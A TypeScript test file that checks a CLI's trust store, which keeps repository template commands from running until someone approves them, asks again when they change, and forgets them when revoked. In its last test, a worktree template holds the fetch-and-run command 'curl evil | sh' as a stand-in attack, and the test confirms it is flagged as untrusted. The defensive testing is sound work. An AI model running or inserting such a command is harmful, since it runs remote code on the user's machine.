// A repository's `.pots/templates` file runs its commands only once approved, and the approval is
// plum's: remembered in its trust store (outside the repository) until a command changes, listed by
// `plum trust --list`, forgotten by `plum trust --revoke`. Against the built bins, a real repository
// and a private tmux server; the prompt path and the review-time hash check through the API.
import { existsSync, readFileSync, realpathSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { isPlumError, type PlumError } from '@plumpots/core';
import { retryUntil, runCli } from '@plumpots/test-fixtures';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPots } from '../../src/api/context.js';
import { approveTemplate, ensureTemplateTrusted, templateTrust } from '../../src/api/templates.js';
import { findTemplate } from '../../src/templates/sources.js';
import { potsFixture, type PotsFixture } from '../cli-helpers.js';

let f: PotsFixture;
let templateFile: string;
let sentinel: string;

/** The pane command: prints a line tmux can show us (not the command's own text) and leaves a file. */
const command = (word: string) => `printf 'tpl-%s\\n' ${word}; touch ${sentinel}`;

function writeTemplate(word: string): void {
  writeFileSync(
    templateFile,
    `windows:\n  - name: main\n    panes:\n      - ${JSON.stringify(command(word))}\n`,
  );
}

beforeAll(() => {
  f = potsFixture();
  sentinel = join(f.repo.root, 'template-ran');
  mkdirSync(join(f.repo.path, '.pots', 'templates'), { recursive: true });
  templateFile = join(f.repo.path, '.pots', 'templates', 'x.yaml');
  writeTemplate('ran');
});

afterAll(() => f.done());

const plum = (...args: string[]) => runCli('plum', args, { cwd: f.repo.path, env: f.env });

const hasSession = (name: string) =>
  f.server.tryTmux(['has-session', '-t', `=${name}`]).status === 0;

interface TrustListItem {
  repo: string;
  set?: string;
  file: string | null;
  commands: Array<{ key: string; command: string }>;
  hash: string;
}

async function refusal(promise: Promise<unknown>): Promise<PlumError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!isPlumError(error)) throw new Error(`expected a PlumError, got ${String(error)}`);
  return error;
}

describe('a .pots/templates file (built bins)', () => {
  it('is refused without a terminal, approved once by `pots templates trust --yes`, asked again on change and after revoke', async () => {
    const key = 'templates.x.windows.0.panes.0';

    // Not approved, no terminal: exit 4, the command listed, the non-interactive fix named.
    const refused = await f.pots(['create', 'main', 'one', '--template', 'x']);
    expect(refused.exitCode).toBe(4);
    expect(refused.stderr).toContain(`${key}: ${command('ran')}`);
    expect(refused.stderr).toContain('would run commands you have not approved');
    expect(refused.stderr).toContain('pots templates trust x --yes');
    expect(hasSession('repo-main-one')).toBe(false);
    expect(existsSync(sentinel)).toBe(false);

    // `pots templates trust x` without --yes and without a terminal shows, approves nothing.
    const asked = await f.pots(['templates', 'trust', 'x']);
    expect(asked.exitCode).toBe(4);
    expect(asked.stdout).toContain(`${key}: ${command('ran')}`);
    expect(asked.stderr).toContain('pots templates trust x --yes');

    const approved = await f.json<{ via: string; trusted: boolean; file: string }>([
      'templates',
      'trust',
      'x',
      '--yes',
      '--json',
    ]);
    expect(approved).toMatchObject({ via: 'file', trusted: true, file: templateFile });

    // Remembered by plum's store, as a set of the repository (keyed by its real common dir).
    const list = JSON.parse((await plum('trust', '--list', '--json')).stdout) as TrustListItem[];
    expect(list).toEqual([
      {
        repo: realpathSync(join(f.repo.path, '.git')),
        set: '.pots/templates/x.yaml',
        hash: expect.stringMatching(/^[0-9a-f]{64}$/) as unknown,
        commands: [{ key, command: command('ran') }],
        file: templateFile,
        approvedAt: expect.any(String) as unknown,
      },
    ]);
    expect((await plum('trust', '--list')).stdout).toMatch(/\.pots\/templates\/x\.yaml/);

    // Now it runs, without a terminal: the pane's output, read back from tmux.
    const made = await f.json<{ id: string; name: string }>([
      'create',
      'main',
      'one',
      '--template',
      'x',
      '--json',
    ]);
    const pane = f.server
      .tmux(['list-panes', '-s', '-t', made.id, '-F', '#{pane_id}'])
      .trim()
      .split('\n')[0]!;
    await retryUntil(() =>
      f.server.tmux(['capture-pane', '-p', '-J', '-t', pane]).includes('tpl-ran'),
    );
    expect(existsSync(sentinel)).toBe(true);
    expect((await f.pots(['templates', 'trust', 'x'])).stderr).toContain('already trusted');

    // One changed word: asked again, nothing made or run.
    rmSync(sentinel);
    writeTemplate('changed');
    const changed = await f.pots(['create', 'main', 'two', '--template', 'x']);
    expect(changed.exitCode).toBe(4);
    expect(changed.stderr).toContain(`${key}: ${command('changed')}`);
    expect(hasSession('repo-main-two')).toBe(false);
    expect(existsSync(sentinel)).toBe(false);

    // Approved again, then `plum trust --revoke` forgets it with the config's approval.
    expect((await f.pots(['templates', 'trust', 'x', '--yes'])).exitCode).toBe(0);
    expect((await f.pots(['create', 'main', 'two', '--template', 'x'])).exitCode).toBe(0);
    const revoked = JSON.parse((await plum('trust', '--revoke', '--json')).stdout) as {
      revoked: boolean;
    };
    expect(revoked.revoked).toBe(true);
    rmSync(sentinel, { force: true });
    const again = await f.pots(['create', 'main', 'three', '--template', 'x']);
    expect(again.exitCode).toBe(4);
    expect(hasSession('repo-main-three')).toBe(false);
    expect(existsSync(sentinel)).toBe(false);
    expect(JSON.parse((await plum('trust', '--list', '--json')).stdout)).toEqual([]);
  });

  it('needs no approval for a built-in; refers a config template to `plum trust`', async () => {
    const builtin = await f.pots(['templates', 'trust', 'development', '--json']);
    expect(builtin.exitCode).toBe(0);
    expect(JSON.parse(builtin.stdout)).toMatchObject({ via: 'none', trusted: true, needed: false });

    const config = join(f.repo.path, '.plumrc.yaml');
    writeFileSync(
      config,
      `pots:\n  templates:\n    cfg:\n      windows: [{ name: c, panes: ["printf 'cfg-%s\\\\n' ok"] }]\n`,
    );
    try {
      const refused = await f.pots(['templates', 'trust', 'cfg', '--yes']);
      expect(refused.exitCode).toBe(4);
      expect(refused.stderr).toContain('pots.templates.cfg.windows.0.panes.0');
      expect(refused.stderr).toContain('plum trust');
      // Nothing was approved by it: the config is still untrusted.
      expect((await plum('trust')).exitCode).toBe(4);
    } finally {
      rmSync(config);
    }
  });
});

describe('the API', () => {
  const open = (cwd = f.repo.path) =>
    openPots({ cwd, env: f.env, server: { socketName: f.server.socketName } });

  it('a yes through `confirm` (a terminal) is remembered; a no records nothing', async () => {
    writeTemplate('asked');
    const pots = open();
    const { template } = await findTemplate('x', {
      env: f.env,
      repoDir: f.repo.path,
    });
    const asked: string[] = [];
    const no = (message: string) => {
      asked.push(message);
      return Promise.resolve(false);
    };
    expect((await refusal(ensureTemplateTrusted(pots, template, { confirm: no }))).exitCode).toBe(
      4,
    );
    expect(asked).toEqual([
      `${templateFile} (the repository's template "x") would run these commands. Trust them?`,
    ]);
    expect((await templateTrust(pots, 'x')).status?.trusted).toBe(false);

    await ensureTemplateTrusted(pots, template, { confirm: () => Promise.resolve(true) });
    await ensureTemplateTrusted(open(), template); // no terminal now: remembered
    expect((await templateTrust(open(), 'x')).status?.trusted).toBe(true);
  });

  it('refuses to approve commands that changed while they were being reviewed', async () => {
    writeTemplate('reviewed');
    const shown = await templateTrust(open(), 'x');
    expect(shown).toMatchObject({ via: 'file', status: { trusted: false, needed: true } });
    writeTemplate('swapped');
    const error = await refusal(approveTemplate(open(), 'x', { hash: shown.status!.hash }));
    expect(error.code).toBe('ERR_PLUM_TRUST_CHANGED');
    expect(error.exitCode).toBe(4);
    expect((await templateTrust(open(), 'x')).status?.trusted).toBe(false);
  });

  it('is shared by worktrees whose file is identical, not by one that changed it', async () => {
    writeTemplate('shared');
    f.repo.commit('template', { '.pots/templates/x.yaml': readFileSync(templateFile, 'utf8') });
    expect((await approveTemplate(open(), 'x')).status?.trusted).toBe(true);
    const same = f.repo.worktree('same', { newBranch: true });
    expect((await templateTrust(open(same), 'x')).status?.trusted).toBe(true);

    const other = f.repo.worktree('other', { newBranch: true });
    writeFileSync(
      join(other, '.pots', 'templates', 'x.yaml'),
      `windows:\n  - name: main\n    panes: ["curl evil | sh"]\n`,
    );
    const status = (await templateTrust(open(other), 'x')).status;
    expect(status).toMatchObject({
      trusted: false,
      details: ['templates.x.windows.0.panes.0: curl evil | sh'],
    });
  });
});
